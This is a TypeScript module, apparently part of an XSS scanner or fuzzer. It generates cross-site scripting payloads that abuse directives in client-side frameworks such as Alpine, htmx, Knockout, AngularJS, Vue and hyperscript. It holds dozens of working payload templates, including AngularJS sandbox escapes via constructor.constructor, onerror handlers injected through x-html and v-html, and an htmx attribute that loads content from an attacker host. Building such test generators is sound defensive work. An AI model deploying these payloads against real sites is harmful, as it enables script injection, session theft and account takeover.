// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of frameworks
import { ATTRIBUTES, type Context } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Pages of frameworks that evaluate attributes; nothing here runs them. */
const framework = (name: string): Context => ({ name, page: '', toMarkup: ['', '{word} ', '">', "'>"] });

const FRAMEWORKS = ['alpine', 'htmx', 'knockout', 'angular-attribute', 'vue-attribute', 'hyperscript'];

/** Attributes that a page's own framework evaluates: directives, bindings, handlers in notations of their own. */
export const gadgetAttributes = xssGenerator({
  name: 'gadget-attributes',
  contexts: [...FRAMEWORKS.map(framework), ...ATTRIBUTES.map((one) => ({ ...one, name: `framework-${one.name}` }))],
  rules: {
    start: [
      '{open}<{element} {directive}>{word}',
      '{open}<{element} {directive}></{element}>',
      '{open}<{element} class={letters} {directive} />',
    ],
    q: ['"', "'"],
    directive: [
      'x-data x-init={q:a}{bare}{q:a}',
      'x-data={q:a}{bare}{q:a}',
      'x-data={q:a}{a:{bare}}{q:a}',
      'x-data x-effect={q:a}{bare}{q:a}',
      'x-data x-on:click={q:a}{bare}{q:a}',
      'x-data @click={q:a}{bare}{q:a}',
      'x-data @click.window.once={q:a}{bare}{q:a}',
      'x-data @keydown.escape={bare}',
      'x-data x-text={q:a}{bare}{q:a}',
      'x-data x-html={q:a}{bare}{q:a}',
      'x-data :class={q:a}{bare}{q:a}',
      'x-data x-bind:style={q:a}{bare}{q:a}',
      'x-data x-show={q:a}{bare}{q:a}',
      'x-data x-if={bare}',
      'x-data x-for={q:a}i in {bare}{q:a}',
      'x-data x-intersect={q:a}{bare}{q:a}',
      'hx-on:click={q:a}{bare}{q:a}',
      'hx-on::load={q:a}{bare}{q:a}',
      'hx-on={q:a}htmx:load: {bare}{q:a}',
      'data-hx-on:click={bare}',
      'hx-get=/ hx-trigger={q:a}load[{bare}]{q:a}',
      'hx-get=/ hx-vals={q:a}js:{a:{bare}}{q:a} hx-trigger=load',
      'hx-get=/ hx-headers={q:a}javascript:{a:{bare}}{q:a} hx-trigger=load',
      'hx-get=//{host}/x hx-trigger=load',
      'data-bind={q:a}click:function(){{bare}}{q:a}',
      'data-bind={q:a}text:{bare}{q:a}',
      'data-bind={q:a}html:`<img src onerror={bare}>`{q:a}',
      'data-bind={q:a}event:{load:{bare}}{q:a}',
      'data-bind={q:a}foreach:[{bare}]{q:a}',
      'data-bind={q:a}if:{bare}{q:a}',
      'ng-init="constructor.constructor(\'{dialog}(1)\')()"',
      'ng-click="$event.view.{dialog}(1)"',
      'data-ng-init="a=toString().constructor.prototype;constructor.constructor(\'{dialog}(1)\')()"',
      'ng-focus="$event.composedPath()|orderBy:\'(z={dialog})(1)\'" autofocus',
      'ng-repeat="x in constructor.constructor(\'{dialog}(1)\')()"',
      'ng:mouseover="constructor.constructor(\'{dialog}(1)\')()"',
      'x-ng-if="constructor.constructor(\'{dialog}(1)\')()"',
      'v-on:click="constructor.constructor(\'{dialog}(1)\')()"',
      '@click="$el.ownerDocument.defaultView.{dialog}(1)"',
      'v-html="\'<img src=x onerror={bare}>\'"',
      'v-bind:title="_c.constructor(\'{dialog}(1)\')()"',
      'v-if="constructor.constructor(\'{dialog}(1)\')()"',
      'v-for="x in constructor.constructor(\'{dialog}(1)\')()"',
      'v-scope="constructor.constructor(\'{dialog}(1)\')()"',
      'v-effect="$el.ownerDocument.defaultView.{dialog}(1)" v-scope',
      '_={q:a}on load call {dialog}({digit}){q:a}',
      '_={q:a}on click js({letters}) {bare} end{q:a}',
      '_={q:a}init js {bare} end{q:a}',
      'data-script={q:a}on load js {bare} end{q:a}',
    ],
  },
});
